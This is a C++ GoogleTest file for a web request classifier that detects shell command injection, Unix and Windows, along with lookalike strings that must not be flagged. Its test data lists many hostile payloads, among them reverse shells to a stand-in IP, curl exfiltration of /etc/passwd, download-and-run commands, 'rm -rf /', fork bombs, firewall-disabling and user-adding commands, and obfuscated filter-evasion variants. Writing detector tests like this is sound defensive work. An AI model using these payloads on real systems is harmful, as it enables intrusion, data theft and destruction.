// The rule family of shells, by the contexts in which a programmer would have put the value; and
// what looks alike and is harmless.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "attack/classify.h"
#include "attack/explain.h"
#include "shell/shell_command.h"
#include "shell/shell_starts.h"

namespace quell::attack {
namespace {

/// As an ordinary client sends it: everything but letters and digits percent-encoded.
std::string encoded(std::string_view value) {
  static constexpr std::string_view kHex = "0123456789ABCDEF";
  std::string out;
  for (const char c : value) {
    const auto byte = static_cast<unsigned char>(c);
    const char lower = static_cast<char>(byte | 0x20U);
    if ((lower >= 'a' && lower <= 'z') || (c >= '0' && c <= '9') || c == '-' || c == '.' ||
        c == '_') {
      out += c;
      continue;
    }
    out += '%';
    out += kHex[byte >> 4U];
    out += kHex[byte & 15U];
  }
  return out;
}

/// As what the family finds it, whatever others find.
Technique technique_of(const Classification& verdict) {
  const auto found = std::ranges::find(verdict.findings, Class::kCmdi, &Finding::which);
  return found == verdict.findings.end() ? Technique::kNone : found->technique;
}
Technique technique_of(std::string_view value) {
  return technique_of(classify(Where::kQuery, encoded(value)));
}

class IsShell : public testing::TestWithParam<const char*> {};
TEST_P(IsShell, InAParameter) {
  EXPECT_EQ(technique_of(GetParam()), Technique::kShell) << GetParam();
}
INSTANTIATE_TEST_SUITE_P(
    BehindAnOperator, IsShell,
    testing::Values(";id", "|id", ";id;", "|id|", "||uptime", "192.0.2.7; uname -a", "a.png|ls -l",
                    "x;cat /etc/passwd", "\nid\n", "7\nwget http://192.0.2.1/x",
                    "x && nslookup a.b", "& ping -c 9 192.0.2.1 &", "-1;sleep 5", ";echo a1b2",
                    ";./x.sh -v", ";zzz --run /tmp/x", ";$u cat /etc/passwd",
                    "x;dd if=/dev/zero of=/tmp/x", "; curl -d @/etc/passwd http://a.b",
                    "|printf x|rev|sh", ";. /tmp/x"));
INSTANTIATE_TEST_SUITE_P(InSubstitutions, IsShell,
                         testing::Values("$(id)", "`id`", "a$(sleep 5)b", "x`curl 192.0.2.1`",
                                         "\"$(id)\"", "<(id)", "x;cat >(tee /tmp/y)",
                                         "a?u=\\`whoami\\`", "`cd /tmp; wget http://192.0.2.1/x`"));
INSTANTIATE_TEST_SUITE_P(OutOfQuotes, IsShell,
                         testing::Values("'; sleep 5 #", "\"; sleep 5; \"", "x' || host a.b || '",
                                         "\" | id ;", "'|id|'", "\" ping.exe -n 31 127.0.0.1"));
INSTANTIATE_TEST_SUITE_P(
    AsTheCommand, IsShell,
    testing::Values("cat /etc/passwd", "ping -n 31 127.0.0.1", "/usr/bin/id",
                    "curl http://192.0.2.1/x -o /tmp/x", "rm -rf /", "perl -e 'print 1 x 9'",
                    "bash -i >& /dev/tcp/192.0.2.1/9 0>&1", "{wget,http://192.0.2.1/x}",
                    "\"ll\" /var/www/", "echo aWQ= | base64 -d | sh", "cd /tmp; sh x.sh; rm x.sh"));
INSTANTIATE_TEST_SUITE_P(
    Disguised, IsShell,
    testing::Values(";c''at /etc/passwd", ";c\\at /etc/passwd", ";wh$@oami", ";who$()ami",
                    ";cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd", ";{cat,/etc/passwd}",
                    ";/u?r/b*/c?t /e*/p?ss*", ";/bin/c* x", ";cat</etc/passwd", ";$'\\x69\\x64'",
                    ";$'\\151\\144'", ";a=id;$a", ";X=cat;Y=/etc/passwd;$X $Y", "cat /[e]tc/passwd",
                    "/etc/pas[s]wd", ";cat ${HOME}/.ssh/id_rsa",
                    "cat ${PATH:0:1}etc${PATH:0:1}passwd", ";c$?at /etc/passwd",
                    "|+cat+/etc/passwd", ";$0<<<id", ";\"w\"hoami", "c{a,oun}t", "{l,-lh}s",
                    "{,echo,#x}", "x;pi<()ng 192.0.2.1", "kill '-'9", ";\\id"));
INSTANTIATE_TEST_SUITE_P(Builtins, IsShell,
                         testing::Values("echo %USERNAME%", "; echo $HOME", ";. /etc/profile",
                                         "exec 5<>/dev/tcp/192.0.2.1/9", "& timeout /t 10",
                                         ";compgen -c", ";read a</etc/hosts",
                                         ";python3.11 -m http.server", ";perl5.30 -v",
                                         ";nslookup `hostname`.a.example"));
INSTANTIATE_TEST_SUITE_P(LinesOfSqlite, IsShell,
                         testing::Values(";.shell id", "1\n.system id", ";.import /etc/hosts t"));
INSTANTIATE_TEST_SUITE_P(Statements, IsShell,
                         testing::Values("while true; do sleep 1; done",
                                         "if [ -f /x ]; then sleep 5; fi", "f(){ f|f& };f",
                                         ":(){ :|:& };:", "alias ls='rm x'"));
INSTANTIATE_TEST_SUITE_P(Options, IsShell,
                         testing::Values("-oProxyCommand=id", "-o ProxyCommand=sh",
                                         "--use-askpass=/x", "--checkpoint-action=exec=sh x",
                                         "--post-file=/etc/passwd", "--output=/var/www/x.php",
                                         "--upload-pack=touch /tmp/x",
                                         "x' -exec cat /etc/hosts {} + -name '",
                                         "a --checkpoint-action=exec=id"));

class IsWindowsShell : public testing::TestWithParam<const char*> {};
TEST_P(IsWindowsShell, InAParameter) {
  EXPECT_EQ(technique_of(GetParam()), Technique::kWindowsShell) << GetParam();
}
INSTANTIATE_TEST_SUITE_P(
    Commands, IsWindowsShell,
    testing::Values("& dir", "| type c:\\windows\\win.ini", "& net user", "&& ipconfig /all",
                    "& net user bob P4ss /add", "& tasklist /v", "& n^et u^ser", "%COMSPEC% /c dir",
                    "cmd /c dir", "c:\\windows\\system32\\cmd.exe /c dir", "|Dir c:\\",
                    "& reg query HKLM\\Software", "netsh advfirewall set allprofiles state off",
                    "for /f \"tokens=*\" %i in ('dir') do echo %i", "for %%a in (a,b) do x",
                    "if not exist c:\\x.txt dir", "if red==red echo x",
                    "if \"a b\" == \"a b\" (dir)", "IF %ERRORLEVEL% NEQ 0 x",
                    "; Get-Content c:\\x.ini", "powershell -enc SQBFAFgA",
                    "; iex (iwr http://192.0.2.1/x)", "| Get-ChildItem -Path c:\\", "; i`ex whoami",
                    "; &('i'+'ex') 'whoami'", "& (\"{1}{0}\" -f 'x','ie')",
                    "; [IO.File]::ReadAllText('c:\\x')", "; $c=New-Object Net.WebClient -x",
                    "& certreq -Post -config http://192.0.2.1 c:\\x", "if not defined a (",
                    "if (%1)==(a) cd c:\\", "if (a) == (a) echo same", "if/i a==b dir"));

class IsNoShell : public testing::TestWithParam<const char*> {};
TEST_P(IsNoShell, InAnyPlace) {
  for (const Where where : {Where::kQuery, Where::kPath, Where::kBody}) {
    EXPECT_EQ(technique_of(classify(where, encoded(GetParam()))), Technique::kNone) << GetParam();
  }
  EXPECT_EQ(technique_of(classify(Where::kHeader, GetParam())), Technique::kNone) << GetParam();
}
INSTANTIATE_TEST_SUITE_P(Names, IsNoShell,
                         testing::Values("whoami", "id", "ls", "netstat", "sleep 5", "get-process",
                                         "cat", "ping", "uname -", "find me", "ls 300 lexus"));
INSTANTIATE_TEST_SUITE_P(Lists, IsNoShell,
                         testing::Values("AT&T", "R&D; sales", "a;b;c", ";cat=12;id=5",
                                         "cat=sports|id=7", "sort|date", "top 10 | best of",
                                         "cat|dog", "id|name", "name|id", "(find|sort)",
                                         "more; less", "id;name;date", "h|w|d", "true|false",
                                         "x=1; path=/; id=5", "10|id", "| name | id | date |",
                                         "size:10|color:red", "a.example/x;sort=date;id=7"));
INSTANTIATE_TEST_SUITE_P(
    Prose, IsNoShell,
    testing::Values("Tom & Jerry", "find me; who is", "time; date; place", "ping me; thanks",
                    "Simon & Garfunkel; live", "the `id` column", "use `git` or `svn`",
                    "it works just like `chown -R` does", "type a | type b", "copy & paste",
                    "net 30 days", "Rock & Roll; Jazz", "my cat; her dog", "kill -9 explained",
                    "if not defined by law", "if it exists; copy it", "alias smith",
                    "call home\nfind keys\nmore milk\nsleep", "I'd like to sleep & eat at 5",
                    "let me know about the laundry../bin & supplies", "the `ls` command",
                    "find the `date` field", "read more; write less", "; read on | read more",
                    "knife & fork; puppet", "time flies", "if not defined well (see below)",
                    "sort by -date", "cut & paste -fast", "rock -exec summary", "a -ok then",
                    "R&D; ping me", "cats & dogs", "less is more; more or less"));
INSTANTIATE_TEST_SUITE_P(
    OtherLanguages, IsNoShell,
    testing::Values("&amp;", "Fish &amp; Chips", "&copy; 2024", "$100", "{a,b}", "foo && bar",
                    "var a = 1; var b = 2;", "a{color:red;top:0}", "console.log(`id ${id}`);",
                    "$(this)", "$(document)", "${user.name}", "a; find(b)", "x; sort(y)",
                    "0 5 * * 1", "^(id|name)$", "{\"cat\":\"dog\",\"id\":5}",
                    "text/html; charset=utf-8", "git+https://a.example/x.git",
                    "query { products {\n  id\n  name\n  date\n } }", "{id,name}", "{date,time}",
                    "d{1,3}", "file{1,2}.txt", "std::vector", "[a]::b", "\\top", "\\ln x", "$a = 5",
                    "('a'+'b')", ".tables of contents", "x.read", "/*/*"));
INSTANTIATE_TEST_SUITE_P(
    Agents, IsNoShell,
    testing::Values("Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
                    "Mozilla/5.0 (Windows NT 6.3; WOW64; Trident/7.0; Touch; rv:11.0) like Gecko",
                    "Opera/9.80 (J2ME/MIDP; Opera Mini/7; U; id) Presto/2.8", "curl/8.5.0",
                    "--verbose", "--output=json", "-5", "-o"));

TEST(Shell, ReadsWhatAHeaderHoldsBehindItsName) {
  const Classification verdict = classify(Where::kHeader, "X-Forwarded-For: ;cat /etc/passwd");
  ASSERT_TRUE(verdict.is_attack());
  EXPECT_EQ(verdict.best().which, Class::kCmdi);
}

TEST(Shell, MatrixParametersOfPathsAreNone) {
  EXPECT_FALSE(classify(Where::kTarget, "/list;sort=price;id=5").is_attack());
  EXPECT_FALSE(classify(Where::kTarget, "/list;date").is_attack());
  EXPECT_FALSE(classify(Where::kTarget, "/ad/x;ord=12345;cat=news;id=5?a=1").is_attack());
  EXPECT_TRUE(classify(Where::kTarget, "/x%3Bcat%20/etc/hostname").is_attack());
  EXPECT_TRUE(classify(Where::kTarget, "/ping/192.0.2.7%7Cid").is_attack());
}

TEST(Shell, ExplainsItselfWithTheBytesItRestsOn) {
  const Explanation explanation = explain(Where::kQuery, "x;c%27%27at%20/etc/hostname");
  ASSERT_TRUE(explanation.verdict.is_attack());
  const Finding& best = explanation.verdict.best();
  EXPECT_EQ(best.technique, Technique::kShell);
  bool names_the_disguise = false;
  for (const Reason& reason : best.reasons) {
    names_the_disguise = names_the_disguise || reason.text.ends_with("c''at");
  }
  EXPECT_TRUE(names_the_disguise);
}

/// The places where a command may begin, and the bytes that are read to see whether one does.
std::size_t work_for(std::string_view value) {
  shell::Starts starts(value, shell::Blanks::kOrdinary);
  shell::CommandReader reader(value, shell::Blanks::kOrdinary);
  std::size_t places = 0;
  shell::Start start;
  while (starts.next(start)) {
    ++places;
    (void)reader.read(start.command, shell::CommandReader::Names::kAny);
  }
  return places + reader.bytes_read();
}

// Attackers choose the bytes: work must not grow faster than their number.
TEST(Shell, HostileShapesAreReadInLinearWork) {
  for (const std::string_view piece :
       {";",    "$(",         "`",    "'",     "\"",    ";'",    ";\"'",    "{a,", "$IFS",
        "${",   "&",          "|(",   "<(",    "%a",    "a=$a;", "\\",      "^",   "cat ",
        ";id ", "for %x in ", "() {", "x;;;;", "$'\\x", "\n",    ";sh -c '"}) {
    const auto shape = [&](std::size_t bytes) {
      std::string value = "x";
      while (value.size() < bytes) value += piece;
      return value;
    };
    const std::size_t small = work_for(shape(8000));
    const std::size_t large = work_for(shape(32000));
    EXPECT_LE(large, 6 * small + 4096) << piece;
  }
}

TEST(Shell, ValuesThatEndInTheMiddle) {
  for (const std::string_view value :
       {";cat '",    ";cat \"", ";cat \\", ";$",    ";${", ";$(",  ";$'",  ";%",
        ";%COMSPEC", ";{",      ";{a,",    ";<",    ";>",  ";2>",  ";<<<", "&",
        ";a=",       "-o",      "--exec=", "for %", "if ", "() {", ";`",   ";^"}) {
    for (const Where where : {Where::kQuery, Where::kHeader, Where::kBody, Where::kPath}) {
      const Classification verdict = classify(where, value);
      EXPECT_GE(verdict.top_score, 0) << value;
      EXPECT_FALSE(verdict.is_attack()) << value;
    }
  }
  using namespace std::string_view_literals;
  EXPECT_TRUE(classify(Where::kBody, ";cat /etc/hostname\0.png"sv).is_attack());
}

}  // namespace
}  // namespace quell::attack
